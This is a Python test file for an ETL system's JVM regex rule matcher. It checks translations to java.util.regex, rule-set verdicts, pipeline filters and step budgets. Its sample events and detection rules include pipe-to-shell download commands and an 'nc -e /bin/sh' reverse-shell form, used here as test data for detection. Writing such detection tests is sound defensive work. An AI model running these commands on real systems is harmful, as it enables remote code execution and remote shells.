"""The JVM rule path (etl/jvm/RuleMatch.java): java.util.regex translations that find a match exactly where
Python's re.search does, rule sets decided in the JVM exactly as the reference interpreter decides them, and
pipelines whose filters run without a Python worker."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from etl.optimize import compile_rules
from etl.optimize.jvmprogram import jvm_plan
from etl.optimize.reference import matched_rules
from etl.regexes.javaregex import Unsupported, expand, translate
from etl.spec.rules import Rule
from tests.optimize.strategies import ALPHABET, like_patterns, literals, regexes, texts, trees_of
from tests.spark.helpers import check_random_rule_sets, checked, run_events

pytestmark = pytest.mark.spark

WIDE = "\U0001d400\U0001d41a\U0001f600"  # a bold A and a (word characters), a smiley (not one)
wide_texts = st.one_of(texts, st.text(alphabet=ALPHABET + WIDE, max_size=8))
wide_regexes = st.one_of(regexes, st.sampled_from([
    "\\b\U0001d400", "\U0001d400\\b", "(?<=\U0001d400)a", "(?<![\U0001d400-\U0001d433])a", "(?<=\\w)a",
    "(?<!\\w)a", "\\Ba", "a\\B", "[^\\w]a", ".a", "(?i)\U0001d400", "[\U0001d400-\U0001f600]+", "\\W\\b",
]))

TRICKY_TEXTS = ["", "a", "\n", "a\n", "a\n\n", "k", "K", "\u212a", "\u017f", "S", "\u0130", "\u0131", "i", "I",
                "\u03c3\u03c2\u03a3", "\u0663", "x\u2028y", "x\u0085y", "x\ry", "\U0001d400a", "\U0001d400 a",
                " \U0001d400 ", "\U0001f600a", "curl x | sh", "ab\n", " a  b "]
MUST_TRANSLATE = ["\\bk\\b", "(?i)k", "(?i)s", "(?i)i", "(?i)\u03c3", "a$", "^a", "(?m)^a", "(?m)a$", "(?m)^$",
                  "\\Z", "a\\Z", "\\s+", "\\S", "\\d", "\\w+\\b", "(?a)\\w", "(?a)\\bk", ".", "(?s).", "[^a]",
                  "(?i)[^k]", "\\Ba", "(?<=\\w)a", "(?<!a)b", "a(?=b)", "(?i:k)s", "x{2,5}?", "(?i)\u00e9",
                  "\\b\U0001d400", "(?<=\U0001d400)a", "curl .*\\| *sh", "", "a*", "\\b"]


def jfind(spark, regex: str, text: str) -> bool:
    return bool(spark.sparkContext._jvm.etl.jvm.RuleMatch.find(expand(regex), text))


def test_patterns_that_must_translate_find_what_python_finds(spark):
    for rx in MUST_TRANSLATE:
        t = translate(rx)
        for s in TRICKY_TEXTS:
            want = re.search(rx, s) is not None
            assert jfind(spark, t.unicode, s) == want, (rx, s, t.unicode)
            if s.isascii():
                assert jfind(spark, t.ascii, s) == want, (rx, s, t.ascii)


def test_constructs_left_to_python_are_named():
    for rx, why in [("(a)\\1", "a backreference"), ("(a)?(?(1)b|c)", "a conditional group"),
                    ("(?>a+)b", "an atomic group"), ("a++", "a possessive repeat"),
                    ("x{2,200000}", "a repeat count above 100000"),
                    ("(ab|cd)*", "an unbounded repeat of an alternation"), ("(\\w+\\s)+", "variable-width part"),
                    ("(a(b)?){65}", "variable-width part"), ("(\\bab)*", "variable-width part")]:
        with pytest.raises(Unsupported, match=re.escape(why)):
            translate(rx)


def test_repeats_java_runs_in_a_loop_take_long_values(spark):
    # kept for Java: bodies of one width (a loop in java.util.regex) or few repetitions; a 200,000-character
    # value must not overflow the stack of the thread that matches it
    long = "ab" * 100_000 + "!"
    for rx in ["(ab)*!", "(?:a[bc])+!", "\\S*!", "[a-z]+!", "(a(?=b)b)*!", "(\\d+\\.){3}", "(ab|cd){1,64}!",
               "x(ab)*", "(?i)(AB)+!"]:
        t = translate(rx)
        want = re.search(rx, long) is not None
        assert jfind(spark, t.unicode, long) == want, rx
        assert jfind(spark, t.ascii, long) == want, rx
    # what the translation refuses, and why: java.util.regex itself on (a|b)* (Python answers True)
    assert re.search("(a|b)*!", long)
    with pytest.raises(Exception, match="StackOverflowError"):
        jfind(spark, "(?:a|b)*!", long)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rx=wide_regexes, ss=st.lists(wide_texts, min_size=1, max_size=6))
def test_translation_finds_what_python_finds(spark, rx, ss):
    try:
        t = translate(rx)
    except (Unsupported, re.error):
        return
    for s in ss:
        want = re.search(rx, s) is not None
        assert jfind(spark, t.unicode, s) == want, (rx, s, t.unicode)
        if s.isascii():
            assert jfind(spark, t.ascii, s) == want, (rx, s, t.ascii)


@st.composite
def cmd_predicates(draw) -> dict:
    kind = draw(st.sampled_from(["regex", "regex", "like", "contains", "starts_with", "ends_with"]))
    value = draw(regexes if kind == "regex" else like_patterns if kind == "like" else literals)
    p = {"field": "cmd", kind: value}
    if draw(st.booleans()):
        p["caseless"] = True
    return p


cmd_trees = trees_of(cmd_predicates(), 4)


def decide(spark, program, values: list, tag: bool, candidate: bool = False) -> list:
    return decide_each(spark, program, values, (tag,), candidate)[0]


def decide_each(spark, program, values: list, tags: tuple, candidate: bool = False) -> list[list]:
    """The verdicts of each mode in `tags` (matched rule ids, or booleans), computed by one Spark job."""
    return decide_cases(spark, [(program, values)], tags, candidate)[0]


def decide_cases(spark, cases: list[tuple], tags: tuple, candidate: bool = False) -> list[list[list]]:
    """For each (program, values) case, the verdicts of each mode in `tags` on its values: all cases in one Spark
    job (a job costs far more than a verdict)."""
    from etl.compile.prefilter import prefilter_condition
    from etl.compile.rules_jvm import verdict

    rows = [(c, i, v) for c, (_, values) in enumerate(cases) for i, v in enumerate(values)]
    df = spark.createDataFrame(rows, "`_case` int, `_i` int, cmd string").coalesce(1)
    cols = []
    for c, (program, _) in enumerate(cases):
        cond = prefilter_condition(program, df) if candidate else None
        got = [verdict(program, df, tag, cond) for tag in tags]
        assert all(v is not None for v in got)
        cols += [v.alias(f"v{c}_{k}") for k, v in enumerate(got)]
    out = df.select("_case", "_i", *cols).orderBy("_case", "_i").collect()
    return [[[r[f"v{c}_{k}"] for r in out if r["_case"] == c] for k in range(len(tags))] for c in range(len(cases))]


# 120 random rule sets, four per example: each example decides its four in one Spark job
rule_sets = st.lists(cmd_trees, min_size=1, max_size=4)
value_lists = st.lists(st.one_of(st.none(), wide_texts), min_size=1, max_size=8)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cases=st.lists(st.tuples(rule_sets, value_lists), min_size=4, max_size=4))
def test_rule_sets_decided_in_the_jvm_equal_the_reference(spark, cases):
    check_random_rule_sets(spark, cases, jvm_plan, decide_cases, event=lambda v: {"cmd": v})


def test_many_rules_with_the_prefilter_equal_the_reference(spark):
    import random
    import sys
    from pathlib import Path

    bench = str(Path(__file__).resolve().parents[2] / "bench")
    sys.path.insert(0, bench)
    try:
        from _gen import make_events, make_rules
    finally:  # bench/sigma.py would shadow pySigma's package `sigma` for the tests after this one
        sys.path.remove(bench)

    rules = make_rules(300, 11)
    program = compile_rules(rules)
    assert jvm_plan(program).body is not None
    values = [e["cmd"] for e in make_events(3000, 11)]
    rnd = random.Random(3)
    values += [v.replace("a", "\u00e4", 1) for v in rnd.sample(values, 200)]  # non-ASCII rows
    values += [v.upper() for v in rnd.sample(values, 200)] + [None, ""]
    # a Kelvin sign or a long s matches k or s caselessly: tool names of the caseless rules written with them
    tools = [r.when.regex.replace("\\.", ".") for r in rules if r.when.caseless]
    kelvin, long_s = "\u212a", "\u017f"
    values += ["run " + t.replace("k", kelvin).replace("s", long_s) + " now" for t in tools if "k" in t or "s" in t]
    want = [matched_rules(rules, {"cmd": v}) for v in values]
    assert sum(1 for w in want if w) >= 40  # the sample exercises matches, not only misses
    assert sum(1 for v, w in zip(values, want, strict=True) if w and v and ("\u212a" in v or "\u017f" in v)) >= 3
    assert [list(x) for x in decide(spark, program, values, tag=True, candidate=True)] == want


def test_program_outside_the_jvm_path_says_why():
    rules = [Rule.model_validate({"id": "a", "when": {"field": "cmd", "regex": "(a)\\1"}}),
             Rule.model_validate({"id": "b", "when": {"field": "code", "eq": 3}})]
    assert jvm_plan(compile_rules(rules[:1])).reason == "pattern '(a)\\\\1' has a backreference"
    assert "native predicates" in jvm_plan(compile_rules(rules)).reason
    two = [Rule.model_validate({"id": "a", "when": {"field": "cmd", "regex": "x"}}),
           Rule.model_validate({"id": "b", "when": {"field": "user", "regex": "y"}})]
    assert jvm_plan(compile_rules(two)).reason == "patterns read several fields (cmd, user)"


def test_explain_names_the_jvm_path_and_the_program_file_holds_long_classes_once():
    from etl.optimize.explain import explain

    rules = [Rule.model_validate({"id": "a", "when": {"field": "cmd", "regex": "\\bcurl\\b"}}),
             Rule.model_validate({"id": "b", "when": {"field": "cmd", "regex": "\\w+\\.sh\\b", "caseless": True}})]
    program = compile_rules(rules)
    assert "jvm rules: java.util.regex, 2 patterns on cmd\n" in explain(program, show_sizes=False)
    body = jvm_plan(program).body
    classes = [line for line in body.splitlines() if line.startswith("S ")]
    assert len(classes) == 1  # Unicode \w: written once
    n = classes[0].split(" ")[1]
    forms = [bytes.fromhex(line.split(" ")[3]).decode() for line in body.splitlines() if line.startswith("P ")]
    # \b is four uses of \w: 2 * 4 in the first pattern, 1 + 4 in the second (the ASCII forms write [0-9A-Z_a-z])
    assert [f.count(f"@{n}@") for f in forms] == [8, 5]


PIPELINE = """
    name: t-rules-jvm
    sources: [{id: src, type: file, path: in, format: jsonl, schema: {cmd: string, code: bigint}}]
    transforms:
      - {id: kept, type: filter, input: src, rules: [{id: sh, when: {field: cmd, regex: '\\bsh\\b'}},
                                                    {id: nc, when: {field: cmd, contains: 'nc -e'}}]}
      - {id: dropped, type: filter, input: src, mode: drop,
         rules: [{id: ls, when: {field: cmd, starts_with: ls}}]}
      - {id: tagged, type: filter, input: src, mode: tag,
         rules: [{id: curl, when: {field: cmd, regex: '^curl', caseless: true}},
                 {id: sh, when: {any: [{field: cmd, regex: '\\| *sh$'}, {field: cmd, ends_with: '.sh'}]}},
                 {id: not_ls, when: {not: {field: cmd, starts_with: ls}}}]}
    sinks:
      - {id: o1, type: file, input: kept, path: o1}
      - {id: o2, type: file, input: dropped, path: o2}
      - {id: o3, type: file, input: tagged, path: o3}
"""

EVENTS = [
    {"cmd": "curl http://x/a.sh | sh", "code": 200},
    {"cmd": "nc -e /bin/sh host 4444", "code": 503},
    {"cmd": "ls -la", "code": 404},
    {"cmd": "CURL http://\u00e9/b.sh", "code": 1},
    {"cmd": None, "code": 500},
]


@pytest.mark.parametrize("path", ["jvm", "python"])
def test_pipeline_filters_on_either_path(spark, tmp_path, monkeypatch, path):
    if path == "python":
        monkeypatch.setenv("ETL_RULES_JVM", "off")
    out = run_events(spark, tmp_path, PIPELINE, {"src": EVENTS})
    assert sorted(r["code"] for r in out["o1"]) == [1, 200, 503]  # \bsh\b: "b.sh" too
    assert sorted(r["code"] for r in out["o2"]) == [1, 200, 500, 503]
    assert sorted((r["code"], r["matched_rules"]) for r in out["o3"]) == [
        (1, ["curl", "sh", "not_ls"]), (200, ["curl", "sh", "not_ls"]), (404, []), (500, ["not_ls"]),
        (503, ["not_ls"])]


@pytest.mark.parametrize("path", ["jvm", "python"])
def test_the_plan_runs_python_only_off_the_jvm_path(spark, tmp_path, monkeypatch, path):
    from etl.compile import CompileContext, Compiler

    if path == "python":
        monkeypatch.setenv("ETL_RULES_JVM", "off")
    c = checked(tmp_path, PIPELINE)
    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), plan=c.plan)
    df = spark.createDataFrame([(e["cmd"], e["code"]) for e in EVENTS], "cmd string, code bigint")
    for node in ("kept", "dropped", "tagged"):
        text = Compiler(ctx)._call(c.plan.graph.node(node), [df]).out._jdf.queryExecution().executedPlan().toString()
        python = "ArrowEvalPython" in text or "MapInArrow" in text  # off the JVM path the siblings share a pass
        assert python == (path == "python"), text
        assert ("RuleMatch" in text) == (path == "jvm"), text


def test_a_program_evicted_from_the_jvm_cache_is_loaded_again(spark):
    # RuleMatch keeps the last 8 programs it loaded (etl/jvm/Shipped.java); hot reloads ship new ones
    programs = [compile_rules([Rule.model_validate({"id": f"w{k}", "when": {"field": "cmd", "contains": f"word{k}x"}})])
                for k in range(10)]
    values = [f"a word{k}x b" for k in range(10)]
    for k, program in enumerate(programs):
        assert decide(spark, program, values, tag=True) == [[f"w{k}"] if j == k else [] for j in range(10)]
    assert decide(spark, programs[0], values, tag=False) == [True] + [False] * 9


def test_patterns_with_several_needs_on_mixed_case_values(spark):
    # each pattern is indexed by one literal and runs only when its other needs hold too (lower-cased)
    rules = [Rule.model_validate({"id": "ssh", "when": {"field": "cmd", "regex": "ssh\\s+-R\\s+\\d+:", "caseless": True}}),
             Rule.model_validate({"id": "py", "when": {"field": "cmd", "regex": "python.*socket.*connect"}}),
             Rule.model_validate({"id": "dl", "when": {"field": "cmd", "regex": "(curl|wget) .*\\| *(ba)?sh",
                                                       "caseless": True}})]
    values = ["ssh -R 8080:host", "SSH  -r 1:x", "Ssh -R x:", "ssh -L 8080:host", "python -c socket;connect",
              "PYTHON -c SOCKET;CONNECT", "python -c connect socket", "WGET http://x | BASH", "Curl x |sh",
              "curl x | zsh", "\u212aSSH -R 9:", "ssh -\u212a 9:", None]
    want = [matched_rules(rules, {"cmd": v}) for v in values]
    assert want == [["ssh"], ["ssh"], [], [], ["py"], [], [], ["dl"], ["dl"], [], ["ssh"], [], []]
    assert [list(x) for x in decide(spark, compile_rules(rules), values, tag=True)] == want


SLOW = r"x\w*\w*\w*\w*\w*y"  # java.util.regex: minutes on 300 word characters without a y
EVIL = "x" + "a" * 300 + "!"


def test_a_pattern_past_its_step_budget_stops_with_the_program_named(spark):
    program = compile_rules([Rule.model_validate({"id": "slow", "when": {"field": "cmd", "regex": SLOW}})])
    assert jvm_plan(program).regexes == (SLOW,)
    # the same length, but the first try matches: well within the budget
    assert decide(spark, program, ["x" + "a" * 300 + "y", "xy", "x-y"], tag=True) == [["slow"], ["slow"], []]
    with pytest.raises(Exception) as got:
        decide(spark, program, ["xay", EVIL], tag=False)
    assert re.search(r"etl-rule-budget\[etl-rules-[0-9a-f]{24}\.txt\] pattern 0 read more than 130200 characters "
                     r"of a value of 302 characters", str(got.value)), str(got.value)[:2000]


BUDGET_PIPELINE = f"""
    name: budget
    sources:
      - {{id: src, type: file, path: in, format: jsonl, schema: {{cmd: string, code: bigint}}}}
    transforms:
      - {{id: ok, type: filter, input: src, expr: "code < 300"}}
      - {{id: kept, type: filter, input: src,
         rules: [{{id: slow, when: {{field: cmd, regex: '{SLOW}'}}}},
                 {{id: curl, when: {{field: cmd, regex: '^curl'}}}}]}}
      - {{id: tagged, type: filter, input: src, mode: tag,
         rules: [{{id: slow, when: {{field: cmd, regex: '{SLOW}', caseless: true}}}},
                 {{id: nc, when: {{field: cmd, contains: 'nc '}}}}]}}
    sinks:
      - {{id: o1, type: file, input: ok, path: o1}}
      - {{id: o2, type: file, input: kept, path: o2}}
      - {{id: o3, type: file, input: tagged, path: o3}}
"""


def test_rule_sets_past_their_step_budget_finish_the_batch_on_hyperscan(spark, tmp_path, monkeypatch, caplog):
    # both rule sets run in the JVM until the evil value stops them; each then leaves for the Python path and the
    # micro-batch runs again: o1, already committed, is not written twice
    events = [{"cmd": "curl x", "code": 200}, {"cmd": EVIL, "code": 201}, {"cmd": "nc -l 1", "code": 500},
              {"cmd": "xab_Y", "code": 404}, {"cmd": "run xaay", "code": 302}]
    with caplog.at_level("WARNING", logger="etl.rules"):
        out = run_events(spark, tmp_path, BUDGET_PIPELINE, {"src": events})
    assert sorted(r["code"] for r in out["o1"]) == [200, 201]
    assert sorted(r["code"] for r in out["o2"]) == [200, 302]
    assert sorted((r["code"], r["matched_rules"]) for r in out["o3"]) == [
        (200, []), (201, []), (302, ["slow"]), (404, ["slow"]), (500, ["nc"])]
    moved = [r.getMessage() for r in caplog.records if "leaves the JVM" in r.getMessage()]
    assert len(moved) == 2, moved
    assert all(f"pattern {SLOW!r} read more than 130200 characters of a value of 302 characters"
               in m for m in moved), moved
    assert len({m.split()[2] for m in moved}) == 2, moved  # two rule sets (each run demotes its own)


def test_the_log_filter_denies_budget_stops_and_nothing_else(spark):
    # etl/jvm/QuietBudget.java: the three lines Spark logs for a task stopped by a budget, and only those
    jvm = spark.sparkContext._jvm
    log4j = jvm.org.apache.logging.log4j
    quiet = jvm.etl.jvm.QuietBudget.instance()
    budget = jvm.java.lang.Class.forName("etl.jvm.RuleMatch$Exhausted").getDeclaredConstructors()[0]
    budget.setAccessible(True)
    args = spark.sparkContext._gateway.new_array(jvm.java.lang.Object, 1)
    args[0] = "etl-rule-budget[etl-rules-0.txt] pattern 0 read more than 130200 characters"
    stop = budget.newInstance(args)

    def verdict(level: str, text: str, thrown=None) -> str:
        event = (log4j.core.impl.Log4jLogEvent.newBuilder().setLoggerName("org.apache.spark.scheduler.TaskSetManager")
                 .setLevel(getattr(log4j.Level, level)).setMessage(log4j.message.SimpleMessage(text))
                 .setThrown(thrown).build())
        return quiet.filter(event).toString()

    other = jvm.java.lang.IllegalStateException("disk full")
    assert verdict("ERROR", "Exception in task 0.0 in stage 7.0 (TID 9)", stop) == "DENY"
    assert verdict("ERROR", "Exception in task 0.0 in stage 7.0 (TID 9)", jvm.org.apache.spark.SparkException(
        "wrapped", stop)) == "DENY"
    assert verdict("ERROR", "Exception in task 0.0 in stage 7.0 (TID 9)", other) == "NEUTRAL"
    assert verdict("ERROR", "Task 0 in stage 7.0 failed 1 times; aborting job") == "NEUTRAL"  # no budget loss
    assert verdict("WARN", "Lost task 0.0 in stage 7.0 (TID 9) (localhost executor driver): "
                           "etl.jvm.RuleMatch$Exhausted: etl-rule-budget[etl-rules-0.txt] pattern 0 ...") == "DENY"
    assert verdict("ERROR", "Task 0 in stage 8.0 failed 1 times; aborting job") == "NEUTRAL"  # another stage
    assert verdict("ERROR", "Task 0 in stage 7.0 failed 1 times; aborting job") == "DENY"
    assert verdict("ERROR", "Task 0 in stage 7.0 failed 1 times; aborting job") == "NEUTRAL"  # once per loss
    assert verdict("WARN", "Lost task 0.0 in stage 9.0 (TID 3): java.lang.IllegalStateException: disk full") \
        == "NEUTRAL"
